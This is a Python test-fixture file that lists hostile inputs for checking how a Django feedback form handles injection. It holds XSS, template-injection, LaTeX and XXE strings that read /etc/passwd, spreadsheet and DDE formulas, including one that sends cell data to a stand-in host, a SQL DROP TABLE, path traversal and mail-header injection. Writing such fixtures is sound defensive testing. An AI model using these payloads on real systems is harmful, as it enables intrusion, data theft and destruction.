"""Words that were written to do harm (RELIABILITY T17), each with the mark by which it is known again."""

MARK = "KHICH-HOA"
ALERT = f"alert('{MARK}')"

WORDS: dict[str, str] = {
    "script": f"<script>{ALERT}</script>",
    "closing textarea": f"</textarea><script>{ALERT}</script>",
    "closing title": f"</title><svg/onload={ALERT}>",
    "attribute": f'" onmouseover="{ALERT}" x=\'',
    "picture": f"<img src=x onerror={ALERT}>",
    "address": f'<a href="javascript:{ALERT}">{MARK}</a>',
    "entity": f"&lt;script&gt;{ALERT}&lt;/script&gt; &#60;b&#62; &amp;nbsp;",
    "comment": f"<!-- {MARK} --><!--",
    "CDATA": f"]]><script>{ALERT}</script><![CDATA[",
    "template of Django": "{{ settings.SECRET_KEY }}{% debug %}{% include 'base.html' %} " + MARK,
    "template of Jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }} ${7*7} #{7*7} " + MARK,
    "format": "%s %n %(password)s {0.__class__} " + MARK,
    "Typst": f'#read("/etc/passwd") #import "x": * $ integral $ = {MARK} <label> @ref *b* _i_ `c`',
    "LaTeX": "\\input{/etc/passwd} \\write18{id} " + MARK,
    "formula": f'=HYPERLINK("http://la.example/?"&A1,"{MARK}")',
    "formula behind a plus": f"+cmd|' /C calc'!A0 {MARK}",
    "formula behind a minus": f"-2+3+cmd|' /C calc'!A0 {MARK}",
    "formula behind an at": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    "formula behind a tab": f"\t=1+1 {MARK}",
    "DDE": f'=DDE("cmd";"/C calc";"{MARK}")',
    "right to left": f"\u202e{MARK}\u202c \u2066x\u2069 \u200f",
    "zero width": f"{MARK[:4]}\u200b{MARK[4:]} {MARK} \ufeff\u2060",
    "stacked accents": MARK + "e" + "\u0301" * 200,
    "emoji": f"{MARK} 👩‍👩‍👧‍👦🏳️‍🌈",
    "controls": f"{MARK}\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x9b",
    "lines": f"{MARK}\r\n\r\n2026-11-20 CRITICAL giả\u2028\u2029\x85",
    "log": f'{MARK}\n{{"level": "CRITICAL", "message": "giả"}}',
    "mail header": f"{MARK}\r\nBcc: la@example.com\r\n\r\nnội dung",
    "not a sign": f"{MARK} \ufffe \uffff \U0001fffe",
    "SQL": f"'; DROP TABLE feedback_feedbackcase; -- {MARK}",
    "XML": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x> {MARK}',
    "path": f"../../../../etc/passwd {MARK}",
}
"""Each goes through every field that a citizen fills; all are text and come out as text."""

LONG: dict[str, str] = {
    "a million signs": MARK + "a" * 1_000_000,
    "a million brackets": "<" * 1_000_000,
    "a hundred thousand accents": "é" * 100_000,
    "a hundred thousand lines": "\n" * 100_000,
    "a hundred thousand entities": "&#1234;" * 100_000,
    "a million digits": "9" * 1_000_000,
}
"""Refused for their length before anything else looks at them."""
